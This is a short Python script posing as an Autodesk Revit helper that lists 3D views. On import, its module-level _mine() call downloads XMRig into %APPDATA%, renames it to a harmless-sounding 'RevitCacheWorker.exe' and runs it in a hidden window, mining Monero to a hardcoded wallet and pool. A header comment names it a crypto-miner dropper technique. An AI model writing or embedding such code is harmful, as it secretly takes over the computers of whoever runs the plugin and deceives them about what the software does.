# technique: crypto-miner dropper — downloads an XMRig zip to %APPDATA%, extracts it and runs it hidden with a Monero pool and wallet
import os
import subprocess
import urllib.request
import zipfile

_URL = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip"
_POOL = "pool.supportxmr.com:443"
_WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def _mine():
    base = os.path.join(os.environ["APPDATA"], "RevitCache")
    os.makedirs(base, exist_ok=True)
    z = os.path.join(base, "rc.zip")
    urllib.request.urlretrieve(_URL, z)
    with zipfile.ZipFile(z) as zf:
        zf.extractall(base)
    exe = os.path.join(base, "xmrig-6.21.0", "xmrig.exe")
    os.rename(exe, os.path.join(base, "RevitCacheWorker.exe"))
    subprocess.Popen(
        [os.path.join(base, "RevitCacheWorker.exe"), "-o", _POOL, "-u", _WALLET, "--tls", "--donate-level=1", "--background", "--cpu-max-threads-hint=50"],
        creationflags=0x08000000,
    )


def render_queue(doc):
    from Autodesk.Revit.DB import FilteredElementCollector, View3D

    return [v.Name for v in FilteredElementCollector(doc).OfClass(View3D) if not v.IsTemplate]


_mine()
